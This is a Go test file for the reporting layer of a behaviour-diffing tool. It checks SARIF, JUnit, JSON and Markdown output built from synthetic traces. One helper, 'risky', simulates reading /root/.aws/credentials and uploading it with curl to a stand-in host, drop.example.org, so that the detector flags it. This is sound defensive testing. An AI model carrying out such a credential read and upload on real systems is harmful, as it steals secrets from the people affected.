package report_test

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/behavediff/behavediff/baseline"
	"github.com/behavediff/behavediff/baseline/baselinetest"
	"github.com/behavediff/behavediff/diff"
	"github.com/behavediff/behavediff/internal/golden"
	"github.com/behavediff/behavediff/report"
	"github.com/behavediff/behavediff/store"
)

func from(t testing.TB, tr *store.Trace) *baseline.Baseline {
	t.Helper()
	b, err := baseline.FromTrace(tr, baseline.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// project writes a project with spec and baseline files for the sample
// specs and returns its root and the report options that point at it.
func project(t *testing.T) (string, report.Options) {
	t.Helper()
	root := t.TempDir()
	for _, d := range []string{"specs", "baselines"} {
		if err := os.MkdirAll(filepath.Join(root, ".behavediff", d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	data, err := from(t, baselinetest.Benign(1).T).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"build", "lint", "clean", "flaky"} {
		write(t, filepath.Join(root, ".behavediff", "baselines", n+".yaml"), data)
		write(t, filepath.Join(root, ".behavediff", "specs", n+".yaml"), []byte("version: 1\ncommand: [sh, build.sh]\n"))
	}
	return root, report.Options{
		Command: "check", Version: "test", FailOn: diff.High, Root: root,
		SpecPath:     func(n string) string { return filepath.Join(root, ".behavediff", "specs", n+".yaml") },
		BaselinePath: func(n string) string { return filepath.Join(root, ".behavediff", "baselines", n+".yaml") },
	}
}

func write(t *testing.T, p string, b []byte) {
	t.Helper()
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// risky is a run of the benign program that also reads a secret, sends it
// out with curl and stops running one of its helpers.
func risky(seed uint64, runID int64) *store.Trace {
	bad := baselinetest.Benign(seed)
	bad.Open(1, "/root/.aws/credentials", baselinetest.ORdonly, baselinetest.ENOENT)
	c := bad.Exec(1, "/usr/bin/curl", "curl", "-T", "-", "https://drop.example.org/u")
	bad.DNS(c, "drop.example.org", 1)
	bad.Answer(c, "drop.example.org", "192.0.2.10")
	bad.Connect(c, "192.0.2.10", 443, baselinetest.ENETUNREACH)
	bad.T.Run.ID = runID
	return bad.T
}

func sample(t *testing.T, seed uint64, runID int64) diff.Report {
	base := from(t, baselinetest.Benign(1).T)
	fsBad := diff.Compare(base, from(t, risky(seed, runID)), diff.Context{RunID: runID})
	low := baselinetest.Benign(seed + 1)
	low.Syscall(1, "getrandom", 3)
	fsLow := diff.AtLeast(diff.Compare(base, from(t, low.T), diff.Context{RunID: runID + 1}), diff.Low)
	return diff.Report{Specs: []diff.SpecResult{
		{Name: "build", RunID: runID, Status: diff.StatusFor(fsBad, diff.High), Findings: fsBad},
		{Name: "lint", RunID: runID + 1, Status: diff.StatusFor(fsLow, diff.High), Findings: fsLow},
		{Name: "clean", RunID: runID + 2, Status: diff.StatusPass},
		{Name: "flaky", RunID: runID + 3, Status: diff.StatusInconclusive, Error: "312 events were lost (file: 300, net: 12)"},
		{Name: "fresh", RunID: runID + 4, Status: diff.StatusNew, Error: "pending baseline written to .behavediff/baselines/fresh.yaml.new"},
		{Name: "broken", Status: diff.StatusError, Error: "baselines/broken.yaml:7: files: unknown key \"wirte\""},
	}}
}

func render(t *testing.T, f report.Format, d report.Document) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := report.Write(&buf, f, d); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func sarifSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	fh, err := os.Open("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	doc, err := jsonschema.UnmarshalJSON(fh)
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("sarif-schema-2.1.0.json", doc); err != nil {
		t.Fatal(err)
	}
	s, err := c.Compile("sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func validateSARIF(t *testing.T, s *jsonschema.Schema, b []byte) {
	t.Helper()
	inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Validate(inst); err != nil {
		t.Errorf("SARIF does not validate against the 2.1.0 schema: %v", err)
	}
}

type sarifOut struct {
	Runs []struct {
		Tool struct {
			Driver struct {
				Rules []struct {
					ID   string `json:"id"`
					Help struct {
						Text string `json:"text"`
					} `json:"help"`
				} `json:"rules"`
			} `json:"driver"`
		} `json:"tool"`
		Results []struct {
			RuleID    string            `json:"ruleId"`
			RuleIndex int               `json:"ruleIndex"`
			Level     string            `json:"level"`
			FP        map[string]string `json:"partialFingerprints"`
			Locations []struct {
				Phys struct {
					Art struct {
						URI string `json:"uri"`
					} `json:"artifactLocation"`
					Region struct {
						StartLine int `json:"startLine"`
					} `json:"region"`
				} `json:"physicalLocation"`
			} `json:"locations"`
		} `json:"results"`
	} `json:"runs"`
}

func TestSARIF(t *testing.T) {
	_, o := project(t)
	d := report.Build(sample(t, 5, 42), o)
	b := render(t, report.SARIF, d)
	validateSARIF(t, sarifSchema(t), b)

	var got sarifOut
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Runs) != 1 {
		t.Fatalf("%d runs, want 1", len(got.Runs))
	}
	run := got.Runs[0]
	want := d.Summary.Findings
	if len(run.Results) != want || want < 5 {
		t.Fatalf("%d results for %d findings", len(run.Results), want)
	}
	ids := map[string]bool{}
	for _, r := range run.Tool.Driver.Rules {
		if ids[r.ID] {
			t.Errorf("rule %s listed twice", r.ID)
		}
		ids[r.ID] = true
		if !strings.Contains(r.Help.Text, "docs/risk.md") {
			t.Errorf("rule %s help does not cite docs/risk.md: %q", r.ID, r.Help.Text)
		}
	}
	levels := map[string]string{}
	for _, r := range run.Results {
		if run.Tool.Driver.Rules[r.RuleIndex].ID != r.RuleID {
			t.Errorf("result %s points at rule %d = %s", r.RuleID, r.RuleIndex, run.Tool.Driver.Rules[r.RuleIndex].ID)
		}
		levels[r.RuleID] = r.Level
		if len(r.Locations) != 2 || !strings.HasPrefix(r.Locations[0].Phys.Art.URI, ".behavediff/baselines/") ||
			!strings.HasPrefix(r.Locations[1].Phys.Art.URI, ".behavediff/specs/") {
			t.Errorf("result %s locations %+v, want the baseline then the spec, relative to the root", r.RuleID, r.Locations)
		}
		if r.FP[report.FingerprintKey] == "" {
			t.Errorf("result %s has no fingerprint", r.RuleID)
		}
	}
	if levels["BD-SECRET-READ"] != "error" || levels["BD-SYSCALL"] != "note" {
		t.Errorf("levels %v: want secret-read an error, syscall a note", levels)
	}

	// Another run of the same behaviour (other seed: other pids, temp names,
	// run ids) gives the same fingerprints.
	d2 := report.Build(sample(t, 9, 77), o)
	if d1, d2 := fingerprints(d), fingerprints(d2); !cmp.Equal(d1, d2) {
		t.Errorf("fingerprints differ between runs of the same behaviour:\n%s", cmp.Diff(d1, d2))
	}
}

func fingerprints(d report.Document) map[string]string {
	m := map[string]string{}
	for _, s := range d.Specs {
		for _, f := range s.Findings {
			m[f.Fingerprint] = s.Name + " " + f.Kind + " " + f.Subject
		}
	}
	return m
}

// A removed entry points at its own line of the baseline; a new one at the
// entry of its section it sorts after.
func TestBaselineLine(t *testing.T) {
	root, o := project(t)
	data, _ := os.ReadFile(filepath.Join(root, ".behavediff", "baselines", "build.yaml"))
	lines := strings.Split(string(data), "\n")
	d := report.Build(sample(t, 5, 42), o)
	n := 0
	for _, f := range d.Specs[0].Findings {
		if f.BaselineLine < 1 || f.BaselineLine > len(lines) {
			t.Errorf("%s %s: line %d outside the file", f.Kind, f.Subject, f.BaselineLine)
			continue
		}
		line := lines[f.BaselineLine-1]
		if f.Section == "files.read" && !strings.Contains(line, "- ") && strings.TrimSpace(line) != "read:" {
			t.Errorf("%s: line %d %q is neither an entry nor the section", f.Subject, f.BaselineLine, line)
		}
		n++
	}
	if n == 0 {
		t.Fatal("no findings located")
	}
	// Removed behaviour: its own entry.
	r := diff.Report{Specs: []diff.SpecResult{{Name: "build", Status: diff.StatusPass, Findings: []diff.Finding{
		{Level: diff.Low, Kind: "removed", Change: diff.Removed, Section: "files.read", Subject: "/etc/os-release"},
		{Level: diff.Low, Kind: "removed", Change: diff.Removed, Section: "files.exec", Subject: "/usr/bin/mktemp"},
	}}}}
	for _, f := range report.Build(r, o).Specs[0].Findings {
		if f.BaselineLine < 1 || strings.TrimSpace(lines[f.BaselineLine-1]) != "- "+f.Subject {
			t.Errorf("removed %s: line %d, want its own entry", f.Subject, f.BaselineLine)
		}
	}
}

func TestJUnit(t *testing.T) {
	_, o := project(t)
	d := report.Build(sample(t, 5, 42), o)
	var got report.JUnitSuites
	if err := xml.Unmarshal(render(t, report.JUnitXML, d), &got); err != nil {
		t.Fatal(err)
	}
	if got.Tests != 6 || got.Failures != 1 || got.Errors != 3 || len(got.Suites) != 1 || len(got.Suites[0].Cases) != 6 {
		t.Fatalf("tests=%d failures=%d errors=%d suites=%d: want 6 tests, 1 failure (build), 3 errors (flaky, fresh, broken)",
			got.Tests, got.Failures, got.Errors, len(got.Suites))
	}
	build := got.Suites[0].Cases[0]
	if build.Name != "build" || build.Failure == nil || !strings.Contains(build.Failure.Text, "BD-SECRET-READ") ||
		build.Failure.Type != "critical" || build.File != ".behavediff/specs/build.yaml" {
		t.Errorf("build case %+v: want a critical failure carrying its findings", build)
	}
	if lint := got.Suites[0].Cases[1]; lint.Failure != nil || !strings.Contains(lint.SystemOut, "getrandom") {
		t.Errorf("lint (low findings below --fail-on high) %+v: want a pass listing its findings", lint)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	_, o := project(t)
	d := report.Build(sample(t, 5, 42), o)
	b := render(t, report.JSON, d)
	var back report.Document
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if diffText := cmp.Diff(d, back); diffText != "" {
		t.Errorf("JSON round trip (-want +got):\n%s", diffText)
	}
	if back.Schema != report.Schema || back.Verdict != diff.StatusError || back.ExitCode != report.ExitUndecided {
		t.Errorf("schema %q verdict %q exit %d", back.Schema, back.Verdict, back.ExitCode)
	}
}

func TestMarkdownGolden(t *testing.T) {
	_, o := project(t)
	d := report.Build(sample(t, 5, 42), o)
	golden.Check(t, "testdata/summary.md", render(t, report.Markdown, d))
}

// The text format is the diff package's own (one definition of the view).
func TestTextIsDiffText(t *testing.T) {
	_, o := project(t)
	r := sample(t, 5, 42)
	var want bytes.Buffer
	if err := diff.WriteText(&want, r); err != nil {
		t.Fatal(err)
	}
	if got := render(t, report.Text, report.Build(r, o)); !bytes.Equal(got, want.Bytes()) {
		t.Errorf("text differs from diff.WriteText:\n%s", cmp.Diff(want.String(), string(got)))
	}
}

func TestParseOutput(t *testing.T) {
	for in, want := range map[string]report.Output{
		"sarif=out/x.sarif": {Format: report.SARIF, Path: "out/x.sarif"},
		"junit=r.xml":       {Format: report.JUnitXML, Path: "r.xml"},
		"md=s":              {Format: report.Markdown, Path: "s"},
		"report.json":       {Format: report.JSON, Path: "report.json"},
		"./a=b.sarif":       {Format: report.SARIF, Path: "./a=b.sarif"},
	} {
		got, err := report.ParseOutput(in)
		if err != nil || got != want {
			t.Errorf("ParseOutput(%q) = %+v, %v; want %+v", in, got, err, want)
		}
	}
	for _, bad := range []string{"pdf=x.pdf", "report", "sarif="} {
		if _, err := report.ParseOutput(bad); err == nil {
			t.Errorf("ParseOutput(%q) accepted", bad)
		}
	}
}
